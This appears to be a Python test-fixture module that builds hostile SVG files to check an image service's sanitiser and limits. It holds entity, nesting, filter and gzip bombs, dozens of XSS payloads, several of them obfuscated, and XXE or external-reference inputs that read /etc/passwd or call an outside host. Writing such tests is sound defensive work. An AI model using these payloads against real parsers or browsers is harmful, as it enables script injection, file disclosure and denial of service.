"""SVG: bombs of few words, scripts in every disguise, and references to the outside."""

import struct

from .deflated import gzip_of
from .register import hostile

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'


def svg(inner, before="", start=OPEN):
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}{start}{inner}</svg>'.encode()


def square(colour="#c81e1e"):
    return f'<rect width="64" height="64" fill="{colour}"/>'


def plain(colour="#c81e1e"):
    return svg(square(colour))


# --- D10: bombs


@hostile("D10", "entities-10-billion.svg", "200 EINVAL ELIMIT 503")
def entities():
    """Ten entities, each of ten of the one before: 10 billion words."""
    lines = ['<!ENTITY e0 "lol">']
    lines += [f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 11)]
    return svg("<text>&e10;</text>", f"<!DOCTYPE svg [{''.join(lines)}]>")


@hostile("D10", "entity-quadratic.svg", "200 EINVAL ELIMIT 503")
def long_entity():
    """One entity of 100 kB, named 50,000 times: 5 GB."""
    return svg(f"<text>{'&a;' * 50_000}</text>", f'<!DOCTYPE svg [<!ENTITY a "{"a" * 100_000}">]>')


@hostile("D10", "entity-circle.svg", "200 EINVAL ELIMIT")
def entity_circle():
    """Two entities of each other."""
    return svg("<text>&a;</text>", '<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')


@hostile("D10", "use-in-use.svg", "200 EINVAL ELIMIT 503")
def nested_use():
    """Groups of ten uses of the group before, twelve deep: 10¹² rectangles."""
    groups = ['<g id="g0"><rect width="1" height="1"/></g>']
    for number in range(1, 13):
        groups.append(f'<g id="g{number}">' + f'<use xlink:href="#g{number - 1}"/>' * 10 + "</g>")
    return svg("<defs>" + "".join(groups) + '</defs><use xlink:href="#g12"/>')


@hostile("D10", "use-of-itself.svg", "200 EINVAL ELIMIT")
def use_of_itself():
    """A use of what it stands in."""
    return svg('<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g>' + square())


@hostile("D10", "view-box-1e9.svg", "200 ELIMIT EINVAL")
def largest_size():
    """A billion pixels a side."""
    return svg(square(), start='<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9">')


@hostile("D10", "view-box-overflow.svg", "200 ELIMIT EINVAL")
def size_beyond_numbers():
    """Sides beyond any integer, and what is no number."""
    return svg(
        square(), start='<svg xmlns="http://www.w3.org/2000/svg" width="1e38" height="9e37" viewBox="0 0 nan inf">'
    )


@hostile("D10", "blur-huge.svg", "200 EINVAL ELIMIT 503")
def huge_blur():
    """A blur of a million pixels over a region of a million percent."""
    effect = (
        '<filter id="f" x="-1000000%" y="-1000000%" width="2000000%" height="2000000%">'
        '<feGaussianBlur stdDeviation="1000000"/></filter>'
    )
    return svg(effect + '<rect width="64" height="64" filter="url(#f)"/>')


@hostile("D10", "filters-chained.svg", "200 EINVAL ELIMIT 503")
def chained_filters():
    """A thousand turbulences of many octaves, one after the other, over 4000×4000."""
    steps = '<feTurbulence baseFrequency="0.01" numOctaves="100"/><feMorphology operator="dilate" radius="500"/>' * 1000
    start = '<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">'
    return svg(f'<filter id="f">{steps}</filter><rect width="4000" height="4000" filter="url(#f)"/>', start=start)


@hostile("D10", "pattern-tiny.svg", "200 EINVAL ELIMIT 503")
def tiny_pattern():
    """A pattern of a millionth of a pixel, filled with itself."""
    pattern = (
        '<pattern id="p" width="0.000001" height="0.000001" patternUnits="userSpaceOnUse">'
        '<rect width="1" height="1" fill="url(#p)"/></pattern>'
    )
    return svg(pattern + '<rect width="64" height="64" fill="url(#p)"/>')


@hostile("D10", "depth-100000.svg", "200 EINVAL ELIMIT")
def deep():
    """100,000 groups inside one another: whoever calls himself for each runs out of stack."""
    return svg("<g>" * 100_000 + square() + "</g>" * 100_000)


@hostile("D10", "attributes-100000.svg", "200 EINVAL ELIMIT")
def many_attributes():
    """100,000 attributes of one element: lists that are searched for each."""
    return svg("<rect " + " ".join(f'a{number}="1"' for number in range(100_000)) + "/>")


@hostile("D10", "path-million.svg", "200 EINVAL ELIMIT 503")
def long_path():
    """A path of a million curves with round joints and a dash of a thousandth."""
    curves = "c9,9,-9,9,50,50c-9,9,9,9,-50,-50" * 125_000
    return svg(f'<path d="M0,0{curves}" fill="none" stroke="red" stroke-width="9" stroke-dasharray="0.001"/>')


@hostile("D10", "selectors.svg", "200 EINVAL ELIMIT 503")
def many_selectors():
    """20,000 rules of a style sheet against 20,000 elements."""
    rules = "".join(f"g g rect:not(.a{number}){{fill:red}}" for number in range(20_000))
    return svg(f"<style>{rules}</style><g><g>" + "<rect/>" * 20_000 + "</g></g>")


@hostile("D10", "matrix-2500.svg", "200 EINVAL")
def large_matrix():
    """A convolution with 2,500 numbers, in which librsvg looks for more than it has read of them."""
    effect = f'<filter id="f"><feConvolveMatrix order="50" kernelMatrix="{"1 " * 2500}"/></filter>'
    return svg(effect + '<rect width="64" height="64" filter="url(#f)"/>')


@hostile("D10", "masks-nested.svg", "200 EINVAL ELIMIT 503")
def nested_masks():
    """300 masks, each masked by the next, over 4000×4000: a surface of 64 MB for each."""
    masks = "".join(
        f'<mask id="m{number}"><rect width="4000" height="4000" fill="white" mask="url(#m{number + 1})"/></mask>'
        for number in range(300)
    )
    start = '<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">'
    return svg(masks + '<rect width="4000" height="4000" mask="url(#m0)"/>', start=start)


@hostile("D10", "never-closed.svg", "EINVAL 200")
def never_closed():
    """A comment, a section and an attribute without end: scanning to the end again for each (the sanitiser of a peer
    never came back)."""
    return svg("<!--" * 20_000 + "<![CDATA[" * 20_000 + '<a b="' * 20_000)


# --- D11


@hostile("D11", "bomb.svgz", "EINVAL ELIMIT 200")
def compressed_bomb():
    """5 MB that unpack to 5 GB of spaces within a drawing."""
    return gzip_of(svg("")[:-6], 5_000_000_000, square().encode() + b"</svg>")


@hostile("D11", "plain.svgz", "200 EINVAL")
def compressed():
    """A compressed drawing that is in order."""
    return gzip_of(plain(), 0)


# --- D12: what must not reach a browser

SCRIPTS = {
    "element": "<script>alert(1)</script>",
    "element-of-namespace": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "element-of-html": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "element-in-section": "<script><![CDATA[alert(1)]]></script>",
    "element-by-reference": '<script xlink:href="data:text/javascript,alert(1)"/>',
    "onload": '<rect onload="alert(1)" width="9" height="9"/>',
    "onload-in-capitals": '<rect ONLOAD="alert(1)" OnClick="alert(1)" width="9" height="9"/>',
    "onbegin": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
    "javascript": '<a xlink:href="javascript:alert(1)"><text>a</text></a>',
    "javascript-by-entity": '<a xlink:href="&#106;ava&#x73;cript&colon;&#58;alert(1)"><text>a</text></a>',
    "javascript-with-tab": '<a href="java\tscr\nipt:alert(1)"><text>a</text></a>',
    "javascript-with-control": '<a href="&#1;javascript:alert(1)"><text>a</text></a>',
    "javascript-animated": '<a><animate attributeName="href" values="javascript:alert(1)"/><text>a</text></a>',
    "javascript-set": '<a id="x"><set attributeName="xlink:href" to="javascript:alert(1)"/><text>a</text></a>',
    "data-address": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>a</text></a>',
    "foreign": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body>'
    "</foreignObject>",
    "frame": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    "embed": '<embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "handler": '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" '
    'ev:event="load">alert(1)</handler>',
    "listener": '<listener event="load" handler="#h" observer="o"/>',
    "style-import": "<style>@import 'http://{outside}/style-import';</style>",
    "style-import-escaped": "<style>@\\69mport 'http://{outside}/style-escaped';</style>",
    "style-url": '<style>rect{{fill:url("http://{outside}/style-url#a")}}</style><rect/>',
    "style-attribute": '<rect style="background:url(http://{outside}/style-attribute)" width="9" height="9"/>',
    "style-expression": '<rect style="width:expression(alert(1))"/>',
    "image": '<image href="http://{outside}/image" width="9" height="9"/>',
    "image-of-xlink": '<image xlink:href="http://{outside}/image-xlink" width="9" height="9"/>',
    "image-of-file": '<image xlink:href="file:///etc/passwd" width="9" height="9"/>',
    "image-of-svg": '<image xlink:href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;"/>',
    "use-outside": '<use xlink:href="http://{outside}/use#a"/>',
    "fill-outside": '<rect fill="url(http://{outside}/fill#a)" width="9" height="9"/>',
    "filter-image": '<filter id="f"><feImage xlink:href="http://{outside}/filter-image"/></filter>'
    '<rect filter="url(#f)" width="9" height="9"/>',
    "font-outside": "<style>@font-face{{font-family:a;src:url(http://{outside}/font)}}</style>"
    '<text font-family="a">a</text>',
    "base": '<g xml:base="http://{outside}/"><image xlink:href="base" width="9" height="9"/></g>',
    "include": '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    "include-of-text": '<text><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href=".?../../../../etc/passwd" '
    'parse="text"/></text>',
}


def script(name, outside="127.0.0.1:9"):
    """A red square and one of `SCRIPTS`, which refers to `outside`."""
    return svg(square() + SCRIPTS[name].format(outside=outside))


def prologs(outside="127.0.0.1:9"):
    """Drawings whose harm lies in front of them: external entities, style sheets and instructions."""
    stylesheet = f'<?xml-stylesheet type="text/xsl" href="http://{outside}/stylesheet"?>'
    return {
        "entity-of-file": svg("<text>&a;</text>", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        "entity-outside": svg("<text>&a;</text>", f'<!DOCTYPE svg [<!ENTITY a SYSTEM "http://{outside}/entity">]>'),
        "parameter-entity": svg("", f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://{outside}/parameter"> %a;]>'),
        "type-outside": svg(square(), f'<!DOCTYPE svg SYSTEM "http://{outside}/type.dtd">'),
        "stylesheet": svg(square(), stylesheet),
        "script-behind": plain() + b"<script>alert(1)</script>",
        "page-in-front": b"<html><body><script>alert(1)</script></body></html>" + plain(),
        "utf-16": svg(square() + SCRIPTS["element"]).decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "utf-7": svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-").replace(b"UTF-8", b"UTF-7"),
        "onload-of-root": svg(square(), start=OPEN.replace("<svg ", '<svg onload="alert(1)" ')),
        "attribute-twice": svg('<rect fill="red" fill="x" onclick="alert(1)" width="9"/>'),
        "no-quotes": svg("<rect onclick=alert(1) width=9 />"),
        "closing-in-attribute": svg('<rect fill="--><script>alert(1)</script>"/>'),
        "section-that-ends": svg("<style><![CDATA[a{}]]></style><![CDATA[</style><script>alert(1)</script>]]>"),
        "nul": svg("<scr\0ipt>alert(1)</scr\0ipt>"),
        "entity-as-element": svg("&a;", '<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">]>'),
        "wrong-bytes": plain().replace(b"<rect", SCRIPTS["element"].encode() + b"<rect x='\xff\xfe\xc0\xaf'"),
        "bytes-of-mark": b"\xef\xbb\xbf" + svg(square() + SCRIPTS["element"]),
    }  # fmt: skip


@hostile("D16", "start.svg", "EINVAL 200")
def start_only():
    """A drawing that ends in its first tag."""
    return b"<svg xmlns='http://www.w3.org/2000/svg' width='9"


@hostile("D10", "utf-32.svg", "EINVAL 200")
def utf_32():
    """UTF-32 without saying so."""
    return b"".join(struct.pack("<I", ord(letter)) for letter in plain().decode())
